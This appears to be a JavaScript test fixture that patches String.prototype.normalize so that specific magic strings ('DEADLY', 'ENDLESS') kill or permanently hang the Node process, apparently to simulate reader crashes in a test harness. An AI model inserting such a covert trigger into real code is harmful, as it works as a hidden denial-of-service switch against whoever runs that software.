// Loaded before a reader's own code: an article of this one word ends the process, another holds it up for good, as a
// fault of the reader or of Node would.
const normalize = String.prototype.normalize;
String.prototype.normalize = function (form) {
  if (String(this) === "DEADLY") process.kill(process.pid, "SIGKILL");
  if (String(this) === "ENDLESS") Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);
  return normalize.call(this, form);
};
